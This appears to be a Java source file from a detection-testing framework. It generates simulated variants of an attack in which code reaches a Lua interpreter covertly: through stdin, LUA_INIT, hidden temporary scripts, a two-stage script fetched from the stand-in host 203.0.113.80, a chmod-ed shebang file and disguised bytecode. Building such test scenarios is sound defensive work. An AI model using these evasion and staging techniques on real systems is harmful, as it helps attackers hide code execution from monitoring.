package perilune.scenarios.mutation;

import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.function.Function;
import perilune.scenarios.mutation.Attack.Form;
import perilune.scenarios.story.Deed;
import perilune.scenarios.story.Image;
import perilune.scenarios.story.Moment;
import perilune.scenarios.story.Platform;
import perilune.scenarios.story.Story;
import perilune.scenarios.story.Traits;
import perilune.scenarios.world.Place;
import perilune.scenarios.world.Trace;

/** Other ways for code to reach the interpreter than {@code -e}. */
final class SourceMutations {

  static final String BYTECODE = "\u001bLuaT\u0000\u0019\u0093";

  private SourceMutations() {}

  static List<Mutation> all() {
    return List.of(
        of("stdin", "the code comes by a pipe", Trace.CONTENT, SourceMutations::stdin),
        of(
            "lua-init",
            "the code comes in LUA_INIT",
            Trace.ENVIRONMENT,
            a -> a.running(asked(a, "-v").with(environment(a)))),
        of(
                "lua-init-set",
                "the shell above it sets LUA_INIT",
                Trace.ARGUMENTS,
                SourceMutations::setBefore)
            .on(Platform.WINDOWS),
        of(
            "script",
            "the code is a hidden script in a temporary folder",
            Trace.CONTENT,
            SourceMutations::script),
        of(
            "script-split",
            "the code is two scripts, of which the second is loaded by the first",
            Trace.CONTENT,
            SourceMutations::split),
        of(
                "script-shebang",
                "the code is a script that is run by its first line",
                Trace.CONTENT,
                SourceMutations::shebang)
            .on(Mutation.POSIX),
        of("module", "the code is a module that -l loads", Trace.CONTENT, SourceMutations::module),
        of(
            "bytecode",
            "the code is bytecode under another name",
            Trace.CONTENT,
            SourceMutations::bytecode),
        of("substitution", "the script is a descriptor", Trace.CONTENT, a -> a.given("/dev/fd/63"))
            .on(Mutation.POSIX));
  }

  private static Mutation of(String id, String about, Trace trace, Function<Attack, Story> change) {
    return new Mutation(
        id,
        about,
        trace,
        attack ->
            attack.form() == Form.CODE ? Optional.of(change.apply(attack)) : Optional.empty());
  }

  private static Image asked(Attack attack, String... words) {
    return Steps.words(attack, words);
  }

  private static Traits environment(Attack attack) {
    return attack.image().traits().withVariable("LUA_INIT", attack.code());
  }

  private static Story stdin(Attack attack) {
    Image image = asked(attack, "-");
    String file = attack.place(Place.HOME, attack.world().hidden("m"));
    return attack.starting(
        attack.helper("feeder", attack.world().prints(file)),
        attack.start(image.with(image.traits().withDetail("stdin", "pipe"))),
        attack.does("feeder", new Deed.Exit(0)));
  }

  private static Story setBefore(Attack attack) {
    String line = "set LUA_INIT=" + attack.code() + "&& lua -v";
    return attack.starting(
        attack.helper("wrapper", attack.world().shell(line)),
        new Moment(
            attack.time(),
            attack.actor(),
            new Deed.Start("wrapper", asked(attack, "-v").with(environment(attack)))));
  }

  private static Story script(Attack attack) {
    String path = attack.place(Place.TEMPORARY, attack.world().hidden("m.lua"));
    return Steps.then(
        attack, Steps.dropped(attack, path, attack.code()), attack.start(asked(attack, path)));
  }

  private static Story split(Attack attack) {
    String first = attack.place(Place.TEMPORARY, attack.world().hidden("m1.lua"));
    String second = attack.place(Place.TEMPORARY, attack.world().hidden("m2.lua"));
    String inLua = second.replace('\\', '/');
    var all = new ArrayList<>(Steps.dropped(attack, first, "dofile('" + inLua + "')"));
    all.add(attack.helper("second", attack.world().fetches("http://203.0.113.80/m2", second)));
    all.add(attack.does("second", new Deed.Write(second, attack.code())));
    all.add(attack.does("second", new Deed.Exit(0)));
    return Steps.then(attack, all, attack.start(asked(attack, first)));
  }

  private static Story shebang(Attack attack) {
    String path = attack.place(Place.TEMPORARY, attack.world().hidden("m"));
    var all = new ArrayList<>(Steps.dropped(attack, path, "#!" + attack.image().path()));
    String tool = attack.world().platform() == Platform.LINUX ? "/usr/bin/chmod" : "/bin/chmod";
    all.add(attack.helper("chmod", attack.world().program(tool, "chmod", "+x", path)));
    all.add(attack.does("chmod", new Deed.Chmod(path, 0755)));
    Image image =
        attack
            .world()
            .given(attack.image(), List.of(attack.image().path(), path))
            .with(attack.image().traits().startedByScript(path));
    return Steps.then(attack, all, attack.start(image));
  }

  private static Story module(Attack attack) {
    String path = attack.place(Place.TEMPORARY, "m.lua");
    String pattern = attack.place(Place.TEMPORARY, "?.lua");
    Image image =
        asked(attack, "-l", "m").with(attack.image().traits().withVariable("LUA_PATH", pattern));
    return Steps.then(attack, Steps.dropped(attack, path, attack.code()), attack.start(image));
  }

  private static Story bytecode(Attack attack) {
    String path = attack.place(Place.TEMPORARY, attack.world().hidden("cache.dat"));
    return Steps.then(
        attack, Steps.dropped(attack, path, BYTECODE), attack.start(asked(attack, path)));
  }
}
